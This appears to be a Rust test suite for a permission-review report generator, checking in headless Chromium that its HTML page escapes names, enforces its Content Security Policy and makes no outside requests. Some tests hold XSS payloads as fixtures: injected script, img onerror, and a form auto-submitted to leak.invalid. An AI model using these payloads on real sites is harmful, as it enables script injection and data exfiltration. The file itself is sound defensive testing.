//! The page for the review, in a real browser, and the figures.

#![expect(clippy::unwrap_used, reason = "a test that fails says where")]

use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use sha2::{Digest, Sha256};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::{Value, json};

use crate::scratch::{BOATS, Scratch};

/// The demo, written to a folder.
fn tides() -> Scratch {
    let scratch = Scratch::with("x", "");
    let demo = Path::new(env!("CARGO_MANIFEST_DIR")).join("demo");
    for name in ["tides.scene.yaml", "station.yaml", "expectations.acts", "press/passwd", "press/group"] {
        let to = scratch.path().join(name);
        std::fs::create_dir_all(to.parent().unwrap()).unwrap();
        std::fs::copy(demo.join(name), to).unwrap();
    }
    scratch
}

fn page(scratch: &Scratch, scene: &str) -> String {
    let run = scratch.run(["report", scene, "-o", "page.html"]);
    assert!(run.ends_with("status 0"), "{run}");
    std::fs::read_to_string(scratch.path().join("page.html")).unwrap()
}

fn browser() -> Option<PathBuf> {
    let path = std::env::var_os("PATH")?;
    let places = std::env::split_paths(&path);
    places
        .flat_map(|place| ["chromium", "chromium-browser"].map(|name| place.join(name)))
        .find(|file| file.is_file())
}

/// A page as the browser has it, what its console said, and the addresses it asked for.
struct Visit {
    document: String,
    console: Vec<String>,
    asked: Vec<String>,
}

/// `None` where there is no browser, which is said.
#[expect(clippy::print_stdout, reason = "what is skipped is told")]
fn visit(test: &str, file: &Path, options: &[&str]) -> Option<Visit> {
    let Some(browser) = browser() else {
        println!("skipped: {test}: there is no Chromium here");
        return None;
    };
    let profile = tempfile::tempdir().unwrap();
    let log = profile.path().join("net.json");
    let output = Command::new(browser)
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"])
        .args(["--disable-background-networking", "--disable-component-update", "--disable-sync"])
        .args(["--enable-logging=stderr", "--virtual-time-budget=3000", "--dump-dom"])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg(format!("--log-net-log={}", log.display()))
        .args(options)
        .arg(format!("file://{}", file.display()))
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&output.stderr);
    let console = said.lines().filter(|line| line.contains("CONSOLE")).map(ToOwned::to_owned).collect();
    let log: Value = serde_json::from_slice(&std::fs::read(log).unwrap()).unwrap();
    let asked = log["events"].as_array().unwrap().iter().filter_map(|event| {
        let request = &event["params"];
        // What the browser asks for itself, such as its updates, has no page behind it.
        let of_page = request["initiator"].is_string() && request["initiator"] != "not an origin";
        request["url"].as_str().filter(|_| of_page).map(ToOwned::to_owned)
    });
    Some(Visit {
        document: String::from_utf8_lossy(&output.stdout).into_owned(),
        console,
        asked: asked.collect(),
    })
}

/// The page with the driver in it, and what the driver saw.
fn driven(test: &str, scratch: &Scratch, page: &str, size: &str) -> Option<(Value, Visit)> {
    let driver = include_str!("driver.js");
    // The page runs no script but its own: the driver has to be let in.
    let digest = BASE64_STANDARD.encode(Sha256::digest(driver));
    let page = page.replacen("script-src ", &format!("script-src 'sha256-{digest}' "), 1);
    let file = scratch.path().join("driven.html");
    std::fs::write(&file, page.replace("</body>", &format!("<script>{driver}</script></body>"))).unwrap();
    let visit = visit(test, &file, &[&format!("--window-size={size}")])?;
    let (_, seen) = visit.document.split_once("<pre id=\"seen\">").expect("the driver comes to its end");
    let seen =
        seen.split_once("</pre>").unwrap().0.replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">");
    Some((serde_json::from_str(&seen).unwrap(), visit))
}

fn quiet(visit: &Visit) {
    assert_eq!(visit.console, Vec::<String>::new());
    let leaving: Vec<&String> = visit.asked.iter().filter(|url| !url.starts_with("file:")).collect();
    assert!(leaving.is_empty(), "{leaving:?}");
}

#[test]
fn the_page_is_filtered_searched_and_coloured_in_a_browser() {
    let scratch = tides();
    let page = page(&scratch, "tides.scene.yaml");
    assert!(page.len() < 300_000, "{}", page.len());
    for size in ["1280,800", "400,800"] {
        let Some((seen, visit)) = driven("the_page_is_filtered", &scratch, &page, size) else { return };
        quiet(&visit);
        assert_eq!(seen["errors"], json!([]), "{size}");
        assert_eq!(seen["all"], json!([18, "18 paths"]));
        assert_eq!(seen["focused"], "search");
        assert_eq!(seen["searched"], json!([1, "1 of 18 paths"]));
        assert_eq!(seen["emptied"], json!([18, ""]));
        assert_eq!((&seen["actor"], &seen["denied"]), (&json!(5), &json!(2)));
        assert_eq!(seen["depends"], json!([0, "0 of 18 paths"]));
        let themes = seen["themes"].as_array().unwrap();
        assert_eq!(themes[1], json!(["Theme: light", "rgb(251, 250, 246)"]));
        assert_eq!(themes[2], json!(["Theme: dark", "rgb(18, 25, 28)"]));
        assert_eq!(themes[3], themes[0], "and round again");
        assert!(seen["wide"].as_i64().unwrap() <= 0, "{size}: scrolls by {}", seen["wide"]);
        assert_eq!((&seen["resources"], &seen["opened"]), (&json!([]), &json!(true)));
    }
}

/// The second line behind the escaping: what gets into the page all the same does not run, send or load anything.
#[test]
fn a_script_that_is_not_the_pages_does_not_run() {
    let scratch = tides();
    let page = page(&scratch, "tides.scene.yaml");
    let intruder = "<base href='http://leak.invalid/'><form action='http://leak.invalid/f'><input name='q'></form>\
                    <script>document.title = 'it ran'; document.forms[document.forms.length - 1].submit()</script>\
                    <img src='x' onerror=\"document.title = 'it ran'\"></body>";
    let file = scratch.path().join("intruded.html");
    std::fs::write(&file, page.replace("</body>", intruder)).unwrap();
    let Some(visit) = visit("a_script_that_is_not_the_pages", &file, &[]) else { return };
    assert!(!visit.document.contains("<title>it ran"), "{}", visit.document);
    assert!(visit.document.contains("class=\"js\""), "the page's own script runs");
    let refused = visit.console.iter().filter(|line| line.contains("Content Security Policy")).count();
    assert!(refused >= 2, "{:?}", visit.console);
    assert!(visit.asked.iter().all(|url| url.starts_with("file:")), "{:?}", visit.asked);
}

/// Otherwise the tests above and below would see nothing whatever happened.
#[test]
fn a_request_that_leaves_a_page_is_seen() {
    let scratch = Scratch::with("leak.html", "<script>oops()</script><img src='http://leak.invalid/x.png'>");
    let Some(visit) = visit("a_request_that_leaves", &scratch.path().join("leak.html"), &[]) else { return };
    assert!(visit.asked.iter().any(|url| url == "http://leak.invalid/x.png"), "{:?}", visit.asked);
    assert!(visit.console.iter().any(|line| line.contains("oops")), "{:?}", visit.console);
}

/// A frame that may run no script shows what a reader without scripts has.
#[test]
fn without_scripts_everything_can_be_read() {
    let scratch = tides();
    page(&scratch, "tides.scene.yaml");
    let outer = "<iframe id=in sandbox='allow-same-origin' width=1200 height=800 src=page.html></iframe><script>\
        onload = function () { var page = document.getElementById('in').contentDocument;\
          var shown = function (what) { return Array.from(page.querySelectorAll(what)).filter(function (one) { return one.getClientRects().length > 0; }).length; };\
          document.body.innerHTML = '<pre id=seen>' + JSON.stringify({ scripted: shown('.scripted'), js: page.documentElement.className,\
            rows: shown('#matrix tr[data-path]'), facts: shown('.facts tbody tr'), figures: shown('svg'), found: shown('#exposure li'), held: shown('#expected li') }) + '</pre>'; };\
        </script>";
    let file = scratch.path().join("outer.html");
    std::fs::write(&file, outer).unwrap();
    let Some(visit) = visit("without_scripts", &file, &["--allow-file-access-from-files"]) else { return };
    let seen = visit.document.split_once("<pre id=\"seen\">").unwrap().1.split_once("</pre>").unwrap().0;
    let seen: Value = serde_json::from_str(seen).unwrap();
    assert_eq!(
        (&seen["scripted"], &seen["js"]),
        (&json!(0), &json!("")),
        "no script has run, and what needs one is away"
    );
    assert_eq!((&seen["rows"], &seen["found"], &seen["held"]), (&json!(18), &json!(4), &json!(9)));
    assert!(seen["facts"].as_u64() > Some(20) && seen["figures"].as_u64() >= Some(3), "{seen}");
}

/// Names on disks, in descriptions and on the command line are text, whatever they look like.
#[test]
fn hostile_names_are_text() {
    let evil = "x<img src=x onerror=alert(1)>&quot;'\"></style></script><script>alert(2)</script>]]>";
    let json = |text: &str| mivask_disk::json::text(&text).unwrap();
    let scene = format!(
        "scene: 1\ntitle: {}\nvolumes: {{ v: {{ filesystem: ext4, tree: [{{ path: /, kind: dir, owner: '0:0', mode: 0755 }}, {{ path: {}, owner: '0:0', mode: 0600 }}] }} }}\n\
         containers: [{{ name: {}, user: '1:1', mounts: [{{ volume: v, at: /v }}] }}, {{ name: other, user: '2:2', mounts: [{{ volume: v, at: /v }}] }}]\nexpect: [other never reads /v/**]\n",
        json(evil),
        json(&format!("/{}", evil.replace('/', "|"))),
        json(evil)
    );
    let scratch = Scratch::with("s.yaml", &scene);
    let page = page(&scratch, "s.yaml");
    assert!(!page.contains("<img") && !page.contains("<script>alert"));
    let Some((seen, visit)) = driven("hostile_names_are_text", &scratch, &page, "1280,800") else { return };
    quiet(&visit);
    assert_eq!(seen["elements"], json!({ "scripts": 2, "images": 0, "frames": 0 }));
    assert_eq!((&seen["errors"], &seen["resources"]), (&json!([]), &json!([])));
}

/// An answer that depends says on the page on what.
#[test]
fn what_nobody_told_is_listed_with_what_would_settle_it() {
    let scene = "scene: 1\nvolumes: { v: {} }\ncontainers: [{ name: mate, user: '1:1', mounts: [{ volume: v, at: /v }] }]\n";
    let scratch = Scratch::with("s.yaml", scene);
    let page = page(&scratch, "s.yaml");
    let (_, section) = page.split_once("What nobody told").unwrap();
    let section = section.split_once("</section>").unwrap().0;
    for wanted in [
        "what volume v holds",
        "3 answers",
        "To settle it: give `volumes: { v: { tree: ... } }`",
        "mate creates /v/new",
    ] {
        assert!(section.contains(wanted), "{wanted}: {section}");
    }
    assert!(page.contains("<b>0</b> expectations</a>") && page.contains("missing fact"), "{page}");
    // Where all is given there is no such section.
    assert!(!self::page(&tides(), "tides.scene.yaml").contains("What nobody told"));
}

#[test]
fn acts_that_are_named_are_drawn_first() {
    let scratch = tides();
    let run = scratch.run([
        "report",
        "tides.scene.yaml",
        "-o",
        "p.html",
        "--title",
        "Review",
        "--act",
        "gauge creates /tmp/x",
        "--change",
        "gauge umask 0002",
    ]);
    assert!(run.ends_with("status 0"), "{run}");
    let page = std::fs::read_to_string(scratch.path().join("p.html")).unwrap();
    assert!(page.contains("<title>Review</title>") && page.contains("gauge umask 0002"));
    let first = page.split("id=\"walk-1\"").nth(1).unwrap();
    assert!(
        first.contains("gauge creates /tmp/x") && first.contains("If it is needed"),
        "with what would help"
    );
}

#[test]
fn figures_stand_by_themselves() {
    let scratch = Scratch::with("s.yaml", BOATS);
    let walk = scratch.run([
        "report",
        "s.yaml",
        "--figure",
        "walk",
        "--act",
        "stowaway reads /hold/keys/id_rsa",
        "-o",
        "-",
    ]);
    let walk = walk.strip_suffix("--- status 0").unwrap();
    for wanted in [
        "<svg",
        "xmlns=\"http://www.w3.org/2000/svg\"",
        "<style>",
        "/hold/keys",
        "other has ---",
        "denied EACCES",
    ] {
        assert!(walk.contains(wanted), "{wanted}: {walk}");
    }
    let mounts = scratch.run(["report", "s.yaml", "--figure", "mounts", "-o", "-"]);
    assert_eq!(mounts.matches("class=\"tie\"").count(), 2, "{mounts}");
    assert_eq!(mounts.matches("class=\"tie closed\"").count(), 1);
    let handoff = scratch.run(["report", "s.yaml", "--figure", "handoff", "-o", "-"]);
    // Two can create, each for two others, a file and a nested one, four deeds each.
    assert_eq!(handoff.matches("letter bit").count(), 32, "{handoff}");
    let Some(visit) = visit("figures_stand_by_themselves", &figure(&scratch, walk), &[]) else { return };
    quiet(&visit);
    assert!(visit.document.contains("<svg"));
}

fn figure(scratch: &Scratch, text: &str) -> PathBuf {
    let file = scratch.path().join("walk.svg");
    std::fs::write(&file, text).unwrap();
    file
}

#[test]
fn a_figure_of_a_walk_is_that_of_one_act() {
    let scratch = Scratch::with("s.yaml", BOATS);
    insta::assert_snapshot!(scratch.run(["report", "s.yaml", "--figure", "walk", "-o", "-"]), @"
    --- standard error
    error: a walk needs one act: name it with --act, such as --act 'gauge writes /data/level.csv'
    --- status 2
    ");
    insta::assert_snapshot!(scratch.run(["report", "s.yaml", "--figure", "mounts", "--act", "mate reads /x", "-o", "-"]), @"
    --- standard error
    error: --act and --acts apply to the figure of a walk only: leave them out, or write --figure walk
    --- status 2
    ");
    insta::assert_snapshot!(scratch.run(["report", "s.yaml", "-o", "none/p.html"]), @"
    --- standard error
    error: none/p.html: No such file or directory (os error 2)
    --- status 2
    ");
    assert!(!scratch.path().join("none").exists());
}
